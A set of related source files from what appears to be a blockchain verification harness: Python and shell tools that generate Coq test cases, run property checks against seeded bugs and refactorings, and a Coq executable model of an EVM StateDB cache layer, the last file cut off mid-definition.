        cs = m.get("cs") or []
        csp = list(m.get("csp") or []) + [0] * len(cs)
        return "SEdit %s %s [%s] %s" % (a, _astr(m["sender"], m.get("sp")),
                                       "; ".join(_astr(c, s) for c, s in zip(cs, csp)), _b(not m.get("bad")))
    if t == "root":
        return "SRoot %s %s" % (_astr(m["sender"], m.get("sp")), _astr(m.get("new", 0), m.get("nsp")))
    if t == "gated":
        return "SGated %s %s %s" % (_GK[m["k"]], _astr(m["sender"], m.get("sp")), _b(m.get("pv", 0) == 0))
    if t == "wasm":
        return "SWasm %d %d [%s]" % (m["sender"], m.get("c", _NKEYS), "; ".join("(%s)" % _msg(x) for x in (m.get("msgs") or [])))
    return "SExec %d [%s]" % (m.get("grantee", 0), "; ".join("(%s)" % _msg(x) for x in (m.get("msgs") or [])))


def _spellings(l):
    """spellings used by one leaf: set of 0/1/2"""
    s = {int(l.get("sp") or 0)}
    if l["t"] == "root":
        s.add(int(l.get("nsp") or 0))
    if l["t"] == "edit":
        s |= {int(x or 0) for x in (l.get("csp") or [])[:len(l.get("cs") or [])]}
    return s


def _kind(k):
    return _MK[k] if k in _MK else "(KGated %s)" % _GK[k]


def to_coq_case(rec):
    i = rec["input"]
    owners = i.get("owners") or [0, 0]
    w = "{| w_root := %d; w_contracts := %s; w_grants := [%s]; w_raw := %s; w_owners := [%s]; w_setup_ok := %s |}" % (
        i["root"], _nats(i.get("contracts") or []),
        "; ".join("{| g_granter := %d; g_grantee := %d; g_kind := %s |}" % (g["granter"], g["grantee"], _kind(g["kind"]))
                  for g in (i.get("grants") or [])), _b(i.get("genesis")),
        "; ".join("(%d, %d)" % (_NKEYS + k, int(o)) for k, o in enumerate(owners)),
        _b(all(rec.get("grants_ok", []))))
    steps = []
    for tx, o in zip(i["txs"], rec["obs"]):
        ob = ("{| o_ok := %s; o_root := %d; o_contracts := %s; o_same_sudo := %s; o_same_oracle := %s; "
              "o_same_infl := %s; o_same_meta := %s |}") % (
            _b(o["ok"]), o["root"], _nats(o["contracts"]), _b(o["same_sudo"]), _b(o["same_oracle"]),
            _b(o["same_infl"]), _b(o["same_meta"]))
        steps.append("([%s], %s)" % ("; ".join("(%s)" % _msg(m) for m in tx), ob))
    return "(%s, [%s])" % (w, ";\n    ".join(steps))


def _nodes(m):
    out = [m]
    for x in m.get("msgs") or []:
        out += _nodes(x)
    return out


def _carrier_shapes(m, sudoers):
    """histogram keys for the wasm carrier class: who dispatches what, in whose name"""
    ks = []
    for n in _nodes(m):
        if n["t"] != "wasm":
            continue
        c = n.get("c", _NKEYS)
        ks.append("wasm:by-sudoer-contract" if c in sudoers else "wasm:by-stranger-contract")
        for ch in n.get("msgs") or []:
            if ch["t"] == "exec":
                g = ch.get("grantee", 0)
                inner = [l["sender"] for l in _leaves(ch)]
                if g != c:
                    ks.append("wasm>exec:spoofed-grantee" + ("=sudoer" if g in sudoers else ""))
                elif any(s != c for s in inner):
                    ks.append("wasm>exec:own-grantee,foreign-inner-signer")
                else:
                    ks.append("wasm>exec:own-grantee,own-inner")
            elif ch["t"] == "wasm":
                ks.append("wasm>wasm")
            else:
                ks.append("wasm>leaf:own" if ch["sender"] == c else "wasm>leaf:foreign-signer")
    return ks


def _leaves(m):
    if m["t"] in ("exec", "wasm"):
        out = []
        for x in m.get("msgs") or []:
            out += _leaves(x)
        return out
    return [m]


def nontrivial(rec):
    i = rec["input"]
    init = set(i.get("contracts") or []) | {i["root"]}
    cur = set(init)
    changed = False
    for tx, o in zip(i["txs"], rec["obs"]):
        for m in tx:
            wrapped = m["t"] in ("exec", "wasm")
            for l in _leaves(m):
                s = l["sender"]
                if changed and ((s in cur) != (s in init)):
                    return True
                if wrapped and changed:
                    return True
            for l in _leaves(m):
                if 1 in _spellings(l):
                    return True
            # message carriers in combination: a contract dispatching a MsgExec, or dispatching in the name
            # of a current sudoer, or a sudoer contract dispatching its own message
            for k in _carrier_shapes(m, cur):
                if k.startswith("wasm>exec") or k in ("wasm>leaf:foreign-signer", "wasm:by-sudoer-contract"):
                    return True
        new = set(o["contracts"]) | {o["root"]}
        if new != cur or not o["same_sudo"]:
            changed = True
        cur = new
    return False


def classify(rec):
    ks = ["sudoers-from-genesis" if rec["input"].get("genesis") else "sudoers-written-canonical", "txs=%d" % len(rec["input"]["txs"]), "grants=%d" % len(rec["input"].get("grants") or []),
          "contracts=%d" % len(set(rec["input"].get("contracts") or []))]
    cur = set(rec["input"].get("contracts") or []) | {rec["input"]["root"]}
    if rec["input"]["root"] >= _NKEYS:
        ks.append("root-is-a-contract")
    for tx, o in zip(rec["input"]["txs"], rec["obs"]):
        for m in tx:
            for k in _carrier_shapes(m, cur):
                ks.append(k)
                ks.append(k + (":accepted" if o["ok"] else ":rejected"))
            if any(n["t"] == "wasm" for n in _nodes(m)):
                ks.append("msg:wasm")
            if m["t"] != "wasm" and m.get("sender" if m["t"] != "exec" else "grantee", 0) >= _NKEYS:
                ks.append("tx-needing-a-contract-signature")
        cur = set(o["contracts"]) | {o["root"]}
        ks.append("tx:%s" % ("accepted" if o["ok"] else "rejected"))
        ks.append("tx_msgs=%d" % len(tx))
        if any(m["t"] == "exec" for m in tx):
            ks.append("tx-with-exec:%s" % ("accepted" if o["ok"] else "rejected"))
        if len(tx) > 1:
            ks.append("multi-msg-tx:%s" % ("accepted" if o["ok"] else "rejected"))
        for m in tx:
            if m["t"] == "exec":
                ks.append("msg:exec")
            for l in _leaves(m):
                k = l["t"] + ((":" + l.get("action", "")) if l["t"] == "edit" else "") + ((":" + l["k"]) if l["t"] == "gated" else "")
                ks.append("leaf:" + k)
                if int(l.get("sp") or 0) == 1:
                    ks.append("spelling:upper-case-sender:" + l["t"])
                if l["t"] == "root" and int(l.get("nsp") or 0) == 1:
                    ks.append("spelling:upper-case-new-root")
                if l["t"] == "edit" and 1 in {int(x or 0) for x in (l.get("csp") or [])[:len(l.get("cs") or [])]}:
                    ks.append("spelling:upper-case-contract:" + l.get("action", ""))
                if 2 in _spellings(l):
                    ks.append("spelling:undecodable-address")
                if l["t"] == "gated" and l.get("pv", 0):
                    ks.append("leaf:invalid-payload")
        if not o["same_sudo"]:
            ks.append("sudoers-changed")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    kinds = sorted({l["t"] + ":" + l.get("k", l.get("action", "")) for tx in rec["input"]["txs"] for m in tx for l in _leaves(m)})
    return {"kind": "sudo-permission", "leaves": kinds}


def input_size(inp):
    return sum(len(json.dumps(tx)) for tx in inp["txs"]) + 20 * len(inp.get("grants") or [])


def shrink_candidates(inp):
    out = []
    txs = inp["txs"]
    for i in range(len(txs)):
        if len(txs) > 1:
            out.append(dict(inp, txs=txs[:i] + txs[i + 1:]))
    for i, tx in enumerate(txs):
        if len(tx) > 1:
            for j in range(len(tx)):
                out.append(dict(inp, txs=txs[:i] + [tx[:j] + tx[j + 1:]] + txs[i + 1:]))
    gs = inp.get("grants") or []
    for i in range(len(gs)):
        out.append(dict(inp, grants=gs[:i] + gs[i + 1:]))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over a model of the sudo permission set, the six handlers it gates, the two message carriers authz MsgExec "
                 "(any nesting, any grants) and contract dispatch through app/wasmext handleSdkMessage (MsgExecuteContract on a re-dispatching "
                 "contract; carriers nested in any order), and baseapp's all-or-nothing tx execution, for EVERY state, message tree and "
                 "history: every message of an accepted tx, wrappers included, is presented by the principal its carrier authenticated, so the "
                 "sender of every executed privileged leaf is a current sudoer AND signed the tx / issued a grant / is a contract the tx "
                 "executes (C16_accepted_tree_well_authorised, C16_privileged_leaf_sudoer_and_backed, C16_gated_in_wasm_iff, "
                 "C16_gated_in_wasm_exec_iff; the variant whose wasm handler skips the signer guard for MsgExec wrappers is refuted: "
                 "C16_unguarded_wrapper_refuted, and Gen/C16Oblig.v C16_wasm_dispatch_guards_every_branch re-checks on every run that the "
                 "tree is the guarded one); address fields are strings decoded to identities before the identity-keyed model, so outcomes are "
                 "independent of the (lower / upper case) spelling and an undecodable string refuses the tx (C16_outcome_independent_of_spelling, "
                 "C16_history_independent_of_spelling, C16_undecodable_address_refuses_tx); a store keyed by the raw message strings is refuted and "
                 "a canonicalising one proved to simulate the identity model (C16_raw_string_store_refuted, C16_canonical_store_simulates_identity_model; "
                 "Gen/C16Oblig.v C16_sudoers_store_is_keyed_by_identity re-checks which one the tree has); only the root in "
                 "force edits the sudoers (C16_root_only_edits, C16_sudoers_change_only_by_root); a gated operation succeeds iff its "
                 "sender is root or a listed contract and the payload is valid, and under MsgExec iff additionally the authz condition "
                 "holds for the INNER signer (C16_gated_iff_permitted, C16_gated_in_exec_iff, C16_every_executed_leaf_authorised); a "
                 "rejected tx changes nothing, including what its earlier messages wrote (C16_rejected_changes_nothing, "
                 "C16_failing_message_rolls_back_tx); former roots / removed contracts are rejected from the next message and over any "
                 "history that does not let them back in (C16_former_root_unpermitted, C16_removed_contract_unpermitted, "
                 "C16_unpermitted_rejected, C16_stale_permission_over_histories). The model is tied to /repo on every run twice: the list "
                 "of gate call sites / gated Msg handlers / gate-function normal forms is re-extracted (Gen/C16Facts.v) and "
                 "C16_current_gates_match_model re-checked, and the model is run against real DeliverTx traces with store digests; the "
                 "proved-sound checker Pb (C16_checker_sound, and C16_model_satisfies_property for the model) is evaluated on those traces."),
        "design_ref": "DESIGN.md §5 C16",
    },
    "level_note": ("Assumes: correctly signed txs with fee 0 (ante signature/sequence/fee logic out of scope); authz grants fixed during a "
                   "history (GenericAuthorization, no expiry); payload validity of gated messages is a generator label checked by the "
                   "correspondence; contents of the oracle/inflation/metadata values are abstracted to 'written or not' (digests). "
                   "Trusted: Coq kernel + vm_compute; go/ast extractor harness/gen/c16 (name-based package-local call graph, no type "
                   "information; gate functions read symbolically into their accept condition; app/wasmext paths from DispatchMsg to the router "
                   "by an abstract walk that recognises the signer guard syntactically, polarity checked only dynamically); the driver's sha256 digests over raw KV iteration and address->id canonicalisation. A write placed before "
                   "the permission check is caught by the generated-facts obligation only (it is invisible through DeliverTx)."),
    "technique": "Coq proof (induction over message trees and histories) + generated gate-site facts + differential correspondence on DeliverTx traces",
}
