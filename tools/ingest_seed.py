#!/usr/bin/env python3
"""Confirm and store breaker outputs:  tools/ingest_seed.py <tag>=<name> …   (tag = dir under /tmp/seed-out and worktree /tmp/seed-<tag>)
Parses demo_cmd from meta.json (-run regex, package), runs tools/confirm_seed.sh, and on with=ok tests=ok without=ok stores it
under /verif/seeded/<name> via tools/store_seed.sh."""
import json, os, re, subprocess, sys, concurrent.futures as cf
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

def one(arg):
    tag, name = arg.split("=")
    out = "/tmp/seed-out/" + tag
    wt = "/tmp/seed-" + tag
    meta = json.load(open(out + "/meta.json"))
    cmd = meta.get("demo_cmd", "")
    m = re.search(r"-run[ =]+'?\"?([A-Za-z0-9_|^$.*()\[\]-]+)", cmd)
    pk = re.findall(r"(\./[A-Za-z0-9_/.\-]+)", cmd)
    pk = [p for p in pk if not p.endswith(".go")]
    if not m or not pk:
        return tag, name, "cannot parse demo_cmd: " + cmd
    run_re = m.group(1).strip("'\"")
    demo_pkg = pk[-1]
    dirs = sorted({"./" + os.path.dirname(f) + "/..." for f in meta.get("files_changed", []) if f.endswith(".go")} | {demo_pkg.rstrip("/") + "/..." if not demo_pkg.endswith("...") else demo_pkg})
    tests = "go test -vet=off -count=1 -skip '%s' %s" % (run_re, " ".join(dirs))
    demo = "go test -vet=off -count=1 -run '%s' %s" % (run_re, demo_pkg)
    p = subprocess.run([V + "/tools/confirm_seed.sh", wt, out + "/patch.diff", demo, tests], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    res = [l for l in p.stdout.split("\n") if l.startswith("RESULT") or l.startswith("UNEXP") or l.startswith("BUILD")]
    verdict = " ".join(res)
    if "with=ok tests=ok without=ok" in verdict:
        subprocess.run([V + "/tools/store_seed.sh", out, name, wt,
                        "tools/confirm_seed.sh: build ok; demo (%s) fails with change; %s passes with change; demo passes after git apply -R" % (demo, tests)], check=True)
        return tag, name, "STORED " + verdict
    return tag, name, "NOT STORED " + verdict + " | " + p.stdout[-400:]

with cf.ThreadPoolExecutor(max_workers=4) as ex:
    for r in ex.map(one, sys.argv[1:]):
        print(" :: ".join(r), flush=True)
