#!/bin/sh
# Independent re-check of the whole compiled development with coqchk; prints the axioms it depends on.
# usage: tools/coqchk_all.sh   (run after ./setup.sh; takes tens of minutes)
cd "$(dirname "$0")/../coq" || exit 2
MODS=$(find . -name '*.vo' | sed 's#^\./##;s#\.vo$##;s#/#.#g;s#^#Nib.#' | sort | tr '\n' ' ')
echo "coqchk over $(echo $MODS | wc -w) modules"
coqchk -silent -o -Q . Nib $MODS
