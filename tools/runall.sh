#!/bin/sh
# usage: tools/runall.sh [tier] — runs every claimed check once, prints id, exit code, seconds, verdict lines
TIER=${1:-quick}
cd /verif
for id in $(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))"); do
  t0=$(date +%s); out=$(./check $id --tier $TIER 2>&1); rc=$?; t1=$(date +%s)
  echo "$id rc=$rc $((t1-t0))s $(echo "$out" | grep -E 'done:' | sed 's/.*done: //')"
  echo "$out" | grep -E "VIOLATION|KNOWN-FINDING|ERROR" | cut -c1-200 | sed 's/^/    /'
done
