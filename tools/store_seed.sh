#!/bin/sh
# usage: tools/store_seed.sh <seed-out dir> <name under /verif/seeded> <scratch worktree to remove> "<what was run>"
set -e
mkdir -p /verif/seeded/$2 && cp -r $1/* /verif/seeded/$2/
python3 - "$2" "$4" <<'PY'
import json,sys
p='/verif/seeded/%s/meta.json'%sys.argv[1]; m=json.load(open(p))
m['confirmed_by_coordinator']={"ran":sys.argv[2],"result":"with=ok tests=ok without=ok"}
m.setdefault('checks_run',[])
json.dump(m,open(p,'w'),indent=1)
PY
git -C /repo worktree remove --force $3
