#!/usr/bin/env python3
"""Run every confirmed seeded change under /verif/seeded against the check of its property (scratch worktree +
VERIF_REPO via tools/seedtest.sh) and record the verdict in its meta.json (checks_run) and in seeded/RESULTS.md.
usage: tools/seedall.py [-j N] [name-substring …]"""
import json, os, re, subprocess, sys, concurrent.futures as cf
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
args = sys.argv[1:]
jobs = 3
if args[:1] == ["-j"]:
    jobs = int(args[1]); args = args[2:]
names = sorted(d for d in os.listdir(os.path.join(V, "seeded")) if os.path.isdir(os.path.join(V, "seeded", d)))
if args:
    names = [n for n in names if any(a in n for a in args)]

def run(name):
    d = os.path.join(V, "seeded", name)
    meta = json.load(open(os.path.join(d, "meta.json")))
    pid = meta.get("property") or name.split("-")[0]
    pids = [pid] + [x for x in meta.get("also_checks", []) if x != pid]
    try:
        p = subprocess.run([os.path.join(V, "tools", "seedtest.sh"), os.path.join(d, "patch.diff")] + pids,
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=3600)
        out = p.stdout
    except subprocess.TimeoutExpired:
        out = "timeout"
    m = re.search(r"done: (.*)", out)
    also = ""
    if len(pids) > 1:
        # verdict of the property's own check first; other checks reported in the stats column
        own = "\n".join(l for l in out.split("\n") if l.startswith("[%s " % pid))
        for x in pids[1:]:
            ox = "\n".join(l for l in out.split("\n") if l.startswith("[%s " % x))
            also += " ; %s: %s" % (x, "VIOLATION with failing input" if ("VIOLATION" in ox and "no-failing" not in ox) else ("VIOLATION no-failing-input-found" if "VIOLATION" in ox else "passed"))
        out = own
        m = re.search(r"done: (.*)", out)
    if "no-failing-input-found" in out:
        verdict = "VIOLATION no-failing-input-found (proof obligation / correspondence broke)"
    elif "VIOLATION" in out:
        verdict = "VIOLATION with failing input"
    elif "rc=0" in out and meta.get("expected") == "silent":
        verdict = "silent, as expected (behaviour-preserving on this tree, see coordinator_note)"
    elif "rc=0" in out:
        verdict = "MISSED (check passed)"
    else:
        verdict = "check did not run: " + out[-300:]
    res = {"check": pid, "cmd": "tools/seedtest.sh seeded/%s/patch.diff %s" % (name, pid), "result": verdict,
           "stats": (m.group(1) if m else "") + also}
    meta["checks_run"] = [r for r in meta.get("checks_run", []) if r.get("check") != pid or "cmd" not in r] + [res]
    # keep only the latest automated entry per check
    seen = {}
    for r in meta["checks_run"]:
        seen[(r.get("check"), r.get("cmd"))] = r
    meta["checks_run"] = list(seen.values())
    json.dump(meta, open(os.path.join(d, "meta.json"), "w"), indent=1)
    return name, pid, verdict, res["stats"]

rows = []
with cf.ThreadPoolExecutor(max_workers=jobs) as ex:
    for r in ex.map(run, names):
        print(" | ".join(r), flush=True)
        rows.append(r)
if not args:
    with open(os.path.join(V, "seeded", "RESULTS.md"), "w") as f:
        f.write("# Seeded changes vs checks (written by tools/seedall.py)\n\n| seeded change | check | verdict | stats |\n|---|---|---|---|\n")
        for r in rows:
            f.write("| %s | %s | %s | %s |\n" % r)
