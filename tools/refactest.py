#!/usr/bin/env python3
"""False-alarm measurement: run the relevant checks against behaviour-preserving refactorings (refactors/<group>/patch-N.diff).
Any VIOLATION / non-zero exit is a false alarm to be fixed in the machinery.  usage: tools/refactest.py [-j N] [substr…]"""
import json, os, re, subprocess, sys, concurrent.futures as cf
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REL = {
 "evm-statedb": "C01 C03 C04 C05 C06 C07 C08 C09 C19",
 "evm-keeper": "C01 C02 C03 C04 C05 C06 C07 C09 C19 C20",
 "evm-precompile": "C01 C04 C05 C06 C08 C09 C19",
 "ante": "C01 C02 C05 C07 C17 C18",
 "oracle": "C01 C10 C11 C12 C20",
 "small-modules": "C01 C13 C14 C15 C16 C18 C20",
 "app-wiring": "C01 C09 C13 C14 C15 C16 C17 C18 C19 C20",
 "evm-types": "C01 C02 C03 C05 C07 C19 C20",
}
args = sys.argv[1:]
jobs = 3
if args[:1] == ["-j"]:
    jobs = int(args[1]); args = args[2:]
items = []
root = os.path.join(V, "refactors")
for g in sorted(os.listdir(root)):
    if not os.path.isdir(os.path.join(root, g)):
        continue
    for fn in sorted(os.listdir(os.path.join(root, g))):
        if fn.endswith(".diff") and (not args or any(a in g + "/" + fn for a in args)):
            items.append((g, fn))

def run(it):
    g, fn = it
    try:
        p = subprocess.run([os.path.join(V, "tools", "seedtest.sh"), os.path.join(root, g, fn)] + REL[g].split(),
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=3 * 3600)
        out = p.stdout
    except subprocess.TimeoutExpired:
        out = "timeout"
    res = {}
    for pid in REL[g].split():
        lines = [l for l in out.split("\n") if l.startswith("[%s " % pid)]
        if any("VIOLATION" in l for l in lines):
            res[pid] = "ALARM: " + [l for l in lines if "VIOLATION" in l][0][:160]
        elif any("rc=0" in l and "done:" in l for l in lines):
            res[pid] = "silent"
        else:
            res[pid] = "did not run: " + " | ".join(lines)[-200:] + out[-200:]
    return g, fn, res

rows = []
with cf.ThreadPoolExecutor(max_workers=jobs) as ex:
    for g, fn, res in ex.map(run, items):
        bad = {k: v for k, v in res.items() if v != "silent"}
        print("%s/%s: %s" % (g, fn, "all silent (%s)" % " ".join(res) if not bad else json.dumps(bad)), flush=True)
        rows.append((g, fn, res))
if not args:
    with open(os.path.join(root, "RESULTS.md"), "w") as f:
        f.write("# Behaviour-preserving refactorings vs checks (tools/refactest.py)\n\n| refactoring | checks run | alarms |\n|---|---|---|\n")
        for g, fn, res in rows:
            bad = {k: v for k, v in res.items() if v != "silent"}
            f.write("| %s/%s | %s | %s |\n" % (g, fn, " ".join(res), "none" if not bad else json.dumps(bad)))
