#!/bin/sh
# Build the framework offline from files on disk: Coq development (full .vo build) and the Go harness.
set -e
cd "$(dirname "$0")"
mkdir -p build evidence replay
python3 - <<'PY'
import sys, os
sys.path.insert(0, "tools")
import check
# build every property's harness + generator, regenerate every facts file so that the whole Coq project builds
import importlib
for fn in sorted(os.listdir("tools/props")):
    if fn.startswith("c") and fn.endswith(".py"):
        m = importlib.import_module("props." + fn[:-3])
        if getattr(m, "DISABLED", False):
            continue
        ok, msg = check.build_go(m)
        if not ok:
            print(msg); sys.exit(1)
        ok, out = check.gen_facts(m)
        if not ok:
            print(out); sys.exit(1)
check.ensure_makefile()
PY
cd coq && timeout 7200 make -j16
