Require Import C04Model.
From Coq Require Import ZArith List.
Import ListNotations.
Open Scope Z_scope.
Definition mint_witness : prog :=
  PFrame [OAddBalance 1 (-5); OAddBalance 2 5;
          PFrame [PPrecompile [] false; OAddBalance 1 (-1); OAddBalance 3 1] true] false.
Definition obs (t : store) := map (fun a => match accs t a with Some x => a_bal x | None => 0 end) [1; 2; 3].
Definition robs (r : rstate) := map (fun a => match r_accs r a with Some x => a_bal x | None => 0 end) [1; 2; 3].
Eval vm_compute in (obs (commit (run mint_witness (init false))), obs (commit (run mint_witness (init true))), robs (rrun mint_witness r0)).
