Require Import C04Model Sweep.
From Coq Require Import ZArith List Bool.
Import ListNotations.
Open Scope Z_scope.
Definition bads := Eval vm_compute in filter (fun b => negb (agrees true b)) scripts.
Definition show := Eval vm_compute in map (fun b => (b, ob (commit (run (PFrame b false) (init1 true))), rob (rrun (PFrame b false) r1))) bads.
Print show.
