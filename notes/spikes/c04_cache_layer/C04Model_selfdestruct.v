(* Spike: executable model of the StateDB + cache-context layer (C04), with and without the repair.
   No proofs here; the point is that the model exhibits the lost write exactly as the Go code
   does, and that the repaired variant agrees with the copy-on-frame reference on the same script. *)
From Coq Require Import ZArith List Bool Lia.
Import ListNotations.
Open Scope Z_scope.

Definition addr := Z. Definition key := Z. Definition word := Z.
Definition upd {V} (m : Z -> V) (k : Z) (v : V) : Z -> V := fun k' => if Z.eqb k' k then v else m k'.

Record acct := { a_bal : Z; a_nonce : Z }.
Record store := { accs : addr -> option acct; stor : addr -> key -> word }.

Record obj := { bal : Z; nonce : Z; suicided : bool;
                origin : key -> option word; dirty : key -> option word; dkeys : list key }.

Definition dirt_t := list (addr * Z).
Fixpoint dget (d : dirt_t) (a : addr) : option Z :=
  match d with [] => None | (x, c) :: t => if Z.eqb x a then Some c else dget t a end.
Fixpoint dset (d : dirt_t) (a : addr) (c : Z) : dirt_t :=
  match d with [] => [(a, c)] | (x, c0) :: t => if Z.eqb x a then (x, c) :: t else (x, c0) :: dset t a c end.
Fixpoint ddel (d : dirt_t) (a : addr) : dirt_t :=
  match d with [] => [] | (x, c0) :: t => if Z.eqb x a then t else (x, c0) :: ddel t a end.

Inductive entry :=
| ECreate (a : addr)
| EBalance (a : addr) (prev : Z)
| ENonce (a : addr) (prev : Z)
| EStorage (a : addr) (k : key) (prev : word)
| ESuicide (a : addr) (prev : bool) (prevbal : Z)
| EPrecompile (saved : store) (sdirt : dirt_t) (sorig : list (addr * (key -> option word))).

Record sdb := {
  objs : addr -> option obj; okeys : list addr;
  journal : list entry; dirt : dirt_t;
  txs : store; cache : option store;
  calls : Z;
  repaired : bool
}.

Definition cur_store (s : sdb) : store := match cache s with Some c => c | None => txs s end.

Definition new_obj (b n : Z) : obj := {| bal := b; nonce := n; suicided := false; origin := fun _ => None; dirty := fun _ => None; dkeys := [] |}.

Definition set_objs (s : sdb) (a : addr) (o : option obj) : sdb :=
  {| objs := upd (objs s) a o; okeys := if existsb (Z.eqb a) (okeys s) then okeys s else a :: okeys s;
     journal := journal s; dirt := dirt s; txs := txs s; cache := cache s; calls := calls s; repaired := repaired s |}.

Definition lookup (s : sdb) (a : addr) : option obj * sdb :=
  match objs s a with
  | Some o => (Some o, s)
  | None => match accs (cur_store s) a with
            | None => (None, s)
            | Some ka => let o := new_obj (a_bal ka) (a_nonce ka) in (Some o, set_objs s a (Some o))
            end
  end.

Definition dirtied (e : entry) : option addr :=
  match e with ECreate a | EBalance a _ | ENonce a _ | EStorage a _ _ | ESuicide a _ _ => Some a | EPrecompile _ _ _ => None end.

Definition push (s : sdb) (e : entry) : sdb :=
  let d := match dirtied e with
           | Some a => dset (dirt s) a (match dget (dirt s) a with Some c => c + 1 | None => 1 end)
           | None => dirt s end in
  {| objs := objs s; okeys := okeys s; journal := e :: journal s; dirt := d; txs := txs s; cache := cache s;
     calls := calls s; repaired := repaired s |}.

Definition get_or_new (s : sdb) (a : addr) : obj * sdb :=
  let '(o, s1) := lookup s a in
  match o with
  | Some o => (o, s1)
  | None => let o := new_obj 0 0 in (o, set_objs (push s1 (ECreate a)) a (Some o))
  end.

Definition w_bal (o : obj) b := {| bal := b; nonce := nonce o; suicided := suicided o; origin := origin o; dirty := dirty o; dkeys := dkeys o |}.
Definition w_sui (o : obj) b := {| bal := bal o; nonce := nonce o; suicided := b; origin := origin o; dirty := dirty o; dkeys := dkeys o |}.
Definition w_nonce (o : obj) n := {| bal := bal o; nonce := n; suicided := suicided o; origin := origin o; dirty := dirty o; dkeys := dkeys o |}.
Definition w_dirty (o : obj) k v := {| bal := bal o; nonce := nonce o; suicided := suicided o; origin := origin o; dirty := upd (dirty o) k (Some v);
                                       dkeys := if existsb (Z.eqb k) (dkeys o) then dkeys o else k :: dkeys o |}.
Definition w_origin (o : obj) k v := {| bal := bal o; nonce := nonce o; suicided := suicided o; origin := upd (origin o) k (Some v); dirty := dirty o; dkeys := dkeys o |}.
Definition w_origin_all (o : obj) f := {| bal := bal o; nonce := nonce o; suicided := suicided o; origin := f; dirty := dirty o; dkeys := dkeys o |}.

(* committed state is read from the tx context (evmTxCtx), as in Go *)
Definition committed (s : sdb) (a : addr) (o : obj) (k : key) : word :=
  match origin o k with Some v => v | None => stor (txs s) a k end.
Definition get_state_o (s : sdb) (a : addr) (o : obj) (k : key) : word :=
  match dirty o k with Some v => v | None => committed s a o k end.

Definition set_balance (s : sdb) (a : addr) (b : Z) : sdb :=
  let '(o, s1) := get_or_new s a in set_objs (push s1 (EBalance a (bal o))) a (Some (w_bal o b)).
Definition add_balance (s : sdb) (a : addr) (amt : Z) : sdb :=
  let '(o, s1) := get_or_new s a in
  if Z.eqb amt 0 then s1 else set_objs (push s1 (EBalance a (bal o))) a (Some (w_bal o (bal o + amt))).
Definition set_nonce (s : sdb) (a : addr) (n : Z) : sdb :=
  let '(o, s1) := get_or_new s a in set_objs (push s1 (ENonce a (nonce o))) a (Some (w_nonce o n)).
Definition set_state (s : sdb) (a : addr) (k : key) (v : word) : sdb :=
  let '(o, s1) := get_or_new s a in
  let prev := get_state_o s1 a o k in
  let o1 := match dirty o k with Some _ => o | None =>
              match origin o k with Some _ => o | None => w_origin o k (stor (txs s1) a k) end end in
  if Z.eqb prev v then set_objs s1 a (Some o1)
  else set_objs (push s1 (EStorage a k prev)) a (Some (w_dirty o1 k v)).

Definition suicide (s : sdb) (a : addr) (benef : addr) : sdb :=
  let '(o, s1) := lookup s a in
  match o with
  | None => s1
  | Some o =>
    (* opSelfdestruct: AddBalance(beneficiary, balance); Suicide(addr) *)
    let s2 := add_balance s1 benef (bal o) in
    let '(o2, s3) := lookup s2 a in
    match o2 with
    | None => s3
    | Some o2 => set_objs (push s3 (ESuicide a (suicided o2) (bal o2))) a (Some (w_bal (w_sui o2 true) 0))
    end
  end.

(* commitCtx into a target store; returns new target and the sdb with dirties reset / origin updated *)
Definition flush_obj (rep : bool) (a : addr) (o : obj) (t : store) : store * obj :=
  let t1 := {| accs := upd (accs t) a (Some {| a_bal := bal o; a_nonce := nonce o |}); stor := stor t |} in
  fold_left (fun '(t, o) k =>
               match dirty o k with
               | None => (t, o)
               | Some v =>
                 let ov := match origin o k with Some x => x | None => 0 end in
                 if andb (negb rep) (Z.eqb v ov) then (t, o)
                 else ({| accs := accs t; stor := fun a' k' => if andb (Z.eqb a' a) (Z.eqb k' k) then v else stor t a' k' |},
                       if rep then o else w_origin o k v)
               end) (dkeys o) (t1, o).

Definition flush (final : bool) (s : sdb) (t : store) : store * sdb :=
  fold_left (fun '(t, s) '(a, _) =>
               let '(o, s1) := lookup s a in
               match o with
               | None => (t, {| objs := objs s1; okeys := okeys s1; journal := journal s1; dirt := dset (dirt s1) a 0;
                                txs := txs s1; cache := cache s1; calls := calls s1; repaired := repaired s1 |})
               | Some o =>
                 if suicided o then
                   let t' := {| accs := upd (accs t) a None; stor := fun a' k' => if Z.eqb a' a then 0 else stor t a' k' |} in
                   let s2 := if andb (repaired s1) (negb final) then s1 else set_objs s1 a None in
                   (t', {| objs := objs s2; okeys := okeys s2; journal := journal s2; dirt := dset (dirt s2) a 0;
                           txs := txs s2; cache := cache s2; calls := calls s2; repaired := repaired s2 |})
                 else
                 let '(t', o') := flush_obj (repaired s) a o t in
                 let s2 := set_objs s1 a (Some o') in
                 (t', {| objs := objs s2; okeys := okeys s2; journal := journal s2; dirt := dset (dirt s2) a 0;
                         txs := txs s2; cache := cache s2; calls := calls s2; repaired := repaired s2 |})
               end) (dirt s) (t, s).

Definition with_cache (s : sdb) (c : option store) : sdb :=
  {| objs := objs s; okeys := okeys s; journal := journal s; dirt := dirt s; txs := txs s; cache := c;
     calls := calls s; repaired := repaired s |}.
Definition with_dirt (s : sdb) (d : dirt_t) : sdb :=
  {| objs := objs s; okeys := okeys s; journal := journal s; dirt := d; txs := txs s; cache := cache s;
     calls := calls s; repaired := repaired s |}.
Definition with_journal (s : sdb) (j : list entry) : sdb :=
  {| objs := objs s; okeys := okeys s; journal := j; dirt := dirt s; txs := txs s; cache := cache s;
     calls := calls s; repaired := repaired s |}.

(* journal revert of one entry (without the dirties bookkeeping) *)
Definition undo (e : entry) (s : sdb) : sdb :=
  match e with
  | ECreate a => set_objs s a None
  | EBalance a pb => match fst (lookup s a) with Some o => set_objs (snd (lookup s a)) a (Some (w_bal o pb)) | None => s end
  | ENonce a pn => match fst (lookup s a) with Some o => set_objs (snd (lookup s a)) a (Some (w_nonce o pn)) | None => s end
